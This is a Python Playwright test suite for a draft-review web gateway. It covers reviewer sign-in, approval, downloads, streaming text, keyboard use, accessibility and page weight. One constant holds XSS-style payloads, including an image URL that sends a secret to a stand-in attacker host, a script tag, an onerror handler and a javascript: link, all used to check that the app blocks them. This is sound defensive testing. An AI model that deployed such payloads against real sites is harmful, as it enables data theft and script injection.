"""The desk in a real Chromium: the whole review, with no request, script or style that is not ours."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx2
import pytest

from serve.app import Gateway, start_gateway
from tests.serve.builders import (
    FILLED,
    ScriptedDrafter,
    a_draft,
    an_order,
    settings_in,
)

if TYPE_CHECKING:  # every tier collects this file, and the library takes half a second
    from playwright.sync_api import Browser, BrowserContext, Page, Playwright

pytestmark = pytest.mark.browser

AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")
WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
ACTIONS = [
    {"type": "eth-transfer", "recipient": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "amount": "1.5"},
    {
        "type": "custom",
        "contract": "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
        "function": "setFee(uint256)",
        "args": ["30"],
    },
]
HOSTILE = (
    "![leak](https://evil.example/leak.png?d=secret) <script>document.title='owned'</script>\n\n"
    "<img src=https://evil.example/x.png onerror=alert(1)> [click](javascript:alert(1))\n\n"
)


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as one:
        yield one


@pytest.fixture(scope="module")
def chromium(playwright: Playwright) -> Iterator[Browser]:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        pytest.skip("no chromium on the path (on Debian: apt-get install chromium)")
    browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
    yield browser
    browser.close()


class Watched:
    """A browser window of one person that notes everything it should not do."""

    def __init__(self, context: BrowserContext, home: str) -> None:
        self.context = context
        self.page: Page = context.new_page()
        self.problems: list[str] = []
        self.page.on("request", lambda request: self._ask(request.url, home))
        self.page.on("console", lambda message: self._say(message.type, message.text))
        self.page.on("pageerror", lambda error: self.problems.append(str(error)))

    def _ask(self, url: str, home: str) -> None:
        if not url.startswith(home + "/"):
            self.problems.append(f"asked for {url}")

    def _say(self, kind: str, text: str) -> None:
        if kind == "error" and "404" not in text:
            self.problems.append(text)

    def check(self) -> None:
        """Fail on whatever this page did that it should not."""
        assert self.problems == []
        if not self.page.url.startswith("about:"):
            assert self.page.evaluate("window.violations") == []

    def sign_in(self, link: str) -> Page:
        self.page.goto(link)
        self.page.get_by_role("button", name="Sign in").click()
        return self.page


@contextmanager
def a_person(chromium: Browser, gateway: Gateway, **options: Any) -> Iterator[Watched]:
    context = chromium.new_context(base_url=gateway.url, **{"locale": "en-GB", **options})
    context.add_init_script(WATCH)
    person = Watched(context, gateway.url)
    try:
        yield person
        person.check()
    finally:
        context.close()


@contextmanager
def a_gateway(folder: Path, drafter: ScriptedDrafter | None = None) -> Iterator[Gateway]:
    people = ["Ada", "Lin", "Mo", "Rui"]
    drafter = drafter or ScriptedDrafter()
    with start_gateway(settings_in(folder), drafter=drafter, reviewers=people) as gateway:
        yield gateway


def order(gateway: Gateway, *, until: str = "drafted", **brief: Any) -> str:
    headers = {"authorization": f"Bearer {gateway.api_token}"}
    with httpx2.Client(base_url=gateway.url, headers=headers) as client:
        draft_id = str(client.post("/v1/drafts", json=an_order(**brief)).json()["id"])
        while until and client.get(f"/v1/drafts/{draft_id}").json()["status"] != until:
            time.sleep(0.05)
    return draft_id


def test_two_reviewers_release_a_draft(chromium: Browser, tmp_path: Path) -> None:
    drafter = ScriptedDrafter(flaws=[("Wash trading", "warning")])
    with a_gateway(tmp_path, drafter) as gateway:
        draft_id = order(gateway)
        for name in ("Ada", "Lin"):
            with a_person(chromium, gateway) as person:
                page = person.sign_in(gateway.sign_in_links[name])
                page.get_by_role("link", name="Creator rebate programme").click()
                assert page.locator("article mark").inner_text() == "Wash trading"
                page.get_by_role("radio", name="Approve").check()
                page.get_by_role("button", name="Record the decision").click()
                person.check()
                if name == "Lin":
                    with page.expect_download() as download:
                        page.get_by_role("link", name="Download the approved text").click()
                    saved = Path(download.value.path()).read_text(encoding="utf-8")
                    assert saved == a_draft().text
                    assert download.value.suggested_filename.endswith("-1-v1.md")
        headers = {"authorization": f"Bearer {gateway.api_token}"}
        shown = httpx2.get(f"{gateway.url}/v1/drafts/{draft_id}", headers=headers).json()
        assert [one["reviewer"] for one in shown["review"]["decisions"]] == ["Ada", "Lin"]


def test_a_used_link_tells_so(chromium: Browser, tmp_path: Path) -> None:
    with a_gateway(tmp_path) as gateway:
        with a_person(chromium, gateway) as person:
            person.sign_in(gateway.sign_in_links["Ada"])
        with a_person(chromium, gateway) as person:
            answer = person.page.goto(gateway.sign_in_links["Ada"])
            assert answer is not None
            assert answer.status == 401
            assert "sign-in link was used" in person.page.get_by_role("alert").inner_text()
            person.problems.clear()  # the browser notes the status 401 as an error


def test_the_whole_review_works_without_javascript(chromium: Browser, tmp_path: Path) -> None:
    with a_gateway(tmp_path) as gateway:
        draft_id = order(gateway)
        for name in ("Ada", "Lin"):
            context = chromium.new_context(base_url=gateway.url, java_script_enabled=False)
            page = context.new_page()
            page.goto(gateway.sign_in_links[name])
            page.locator("main button").click()
            page.goto(f"/drafts/{draft_id}")
            page.locator("input[value=approve]").check()
            page.locator(".decision button").click()
            if name == "Lin":
                with page.expect_download() as download:
                    page.get_by_role("link", name="Download the approved text").click()
                assert Path(download.value.path()).read_text(encoding="utf-8") == a_draft().text
            page.locator("header form button").click()
            assert page.url.endswith("/sign-in")
            context.close()


def test_text_appears_while_it_is_written_and_a_reload_loses_nothing(chromium: Browser, tmp_path: Path) -> None:
    step = threading.Semaphore(0)
    drafter = ScriptedDrafter(between=lambda: step.acquire() and None)
    with a_gateway(tmp_path, drafter) as gateway, a_person(chromium, gateway) as person:
        page = person.sign_in(gateway.sign_in_links["Ada"])
        draft_id = order(gateway, until="")
        page.goto(f"/drafts/{draft_id}")
        words = len(FILLED["summary"].split())
        step.release(words + 3)
        stream = page.locator("[data-section=motivation] .stream")
        stream.get_by_text("Sales fell from").wait_for()
        assert page.locator("[data-section=summary] .section-state").inner_text() == "finished"
        page.reload()
        assert stream.inner_text().strip() == "Sales fell from"
        assert FILLED["summary"] in page.locator("[data-section=summary]").inner_text()
        step.release(1)
        stream.get_by_text("Sales fell from 612,000").wait_for()
        step.release(1000)
        page.locator("article#text").wait_for()
        assert FILLED["risks"] in page.locator("article#text").inner_text()


def test_hostile_text_asks_for_nothing_and_runs_nothing(chromium: Browser, tmp_path: Path) -> None:
    text = a_draft().text.replace("## Risks", HOSTILE + "## Risks")
    drafter = ScriptedDrafter(text=text)
    with a_gateway(tmp_path, drafter) as gateway, a_person(chromium, gateway) as person:
        page = person.sign_in(gateway.sign_in_links["Ada"])
        page.goto(f"/drafts/{order(gateway)}")
        page.wait_for_load_state("networkidle")
        assert page.locator("article img, article script").count() == 0
        assert "Creator rebate programme" in page.title()
        hrefs = page.locator("article a").evaluate_all("all => all.map(one => one.href)")
        assert not any("evil" in href or "javascript" in href for href in hrefs)


def test_a_decision_is_possible_with_the_keyboard_alone(chromium: Browser, tmp_path: Path) -> None:
    with a_gateway(tmp_path) as gateway, a_person(chromium, gateway) as person:
        page = person.sign_in(gateway.sign_in_links["Ada"])
        page.goto(f"/drafts/{order(gateway)}")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to content"
        for _ in range(60):
            page.keyboard.press("Tab")
            width, kind = page.evaluate(
                "[getComputedStyle(document.activeElement).outlineWidth, document.activeElement.name]"
            )
            assert width == "3px", "the focus is visible everywhere"
            if kind == "verdict":
                break
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Tab")
        page.keyboard.type("the recipient is missing")
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.wait_for_url("**#review")
        assert "the recipient is missing" in page.locator(".trail").inner_text()
        assert "Asks for changes" in page.locator(".trail").inner_text()


@pytest.fixture(scope="module")
def furnished(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Gateway, dict[str, str]]]:
    """Yield a gateway with a draft in every state, and the address of each kind of page."""
    drafter = ScriptedDrafter(flaws=[("45,000 USDC", "error"), ("Wash trading", "warning"), ("one quarter.", "info")])
    with a_gateway(tmp_path_factory.mktemp("furnished"), drafter) as gateway:
        drafted = order(gateway, actions=ACTIONS)
        drafter.dies_in = "motivation"
        interrupted = order(gateway, until="interrupted")
        drafter.dies_in, wait = "", threading.Event()
        drafter.between = lambda: wait.wait() and None
        drafting = order(gateway, until="")
        yield (
            gateway,
            {
                "list": "/drafts",
                "new": "/drafts/new",
                "draft": f"/drafts/{drafted}",
                "interrupted": f"/drafts/{interrupted}",
                "drafting": f"/drafts/{drafting}",
                "missing": "/nowhere",
            },
        )
        wait.set()


@pytest.fixture(scope="module")
def signed_in(chromium: Browser, furnished: tuple[Gateway, dict[str, str]]) -> Any:
    gateway, _ = furnished
    with a_person(chromium, gateway) as person:
        person.sign_in(gateway.sign_in_links["Rui"])
        return person.context.storage_state()


@pytest.mark.parametrize("width", [320, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("locale", ["en-GB", "zh-CN"])
def test_every_page_is_accessible_and_fits(
    chromium: Browser, furnished: Any, signed_in: Any, width: int, scheme: Any, locale: str
) -> None:
    gateway, pages = furnished
    size: Any = {"width": width, "height": 800}
    look = {"viewport": size, "color_scheme": scheme, "locale": locale}
    with a_person(chromium, gateway, storage_state=signed_in, **look) as person:
        for name, address in pages.items():
            person.page.goto(address)
            person.page.evaluate(AXE)
            found = person.page.evaluate("(tags) => axe.run({runOnly: tags})", WCAG)["violations"]
            assert [(name, one["id"], one["nodes"][0]["html"]) for one in found] == []
            over = person.page.evaluate("document.documentElement.scrollWidth - innerWidth")
            assert over <= 0, f"{name} is {over} px wider than the window"
            assert person.page.evaluate("document.documentElement.lang") == locale.replace("en-GB", "en").replace(
                "zh-CN", "zh-Hans"
            )


def test_a_first_visit_is_light(chromium: Browser, furnished: Any, signed_in: Any) -> None:
    gateway, pages = furnished
    with a_person(chromium, gateway, storage_state=signed_in) as person:
        bodies: list[int] = []
        person.page.on("response", lambda answer: bodies.append(len(answer.body())))
        person.page.goto(pages["draft"], wait_until="networkidle")
        assert len(bodies) <= 4
        assert sum(bodies) < 60_000
